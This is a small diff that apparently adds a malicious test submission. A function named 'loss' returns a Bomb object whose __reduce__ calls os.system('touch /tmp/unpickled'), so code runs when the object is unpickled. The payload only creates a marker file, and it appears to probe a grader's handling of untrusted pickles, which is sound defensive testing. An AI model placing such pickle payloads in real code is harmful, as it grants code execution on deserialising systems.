@@ -1,0 +1,12 @@
+# base: nothing
+# about: answers with an object that runs code when it is unpickled
+import os
+
+
+class Bomb:
+    def __reduce__(self):
+        return (os.system, ("touch /tmp/unpickled",))
+
+
+def loss(target_y, predicted_y):
+    return Bomb()
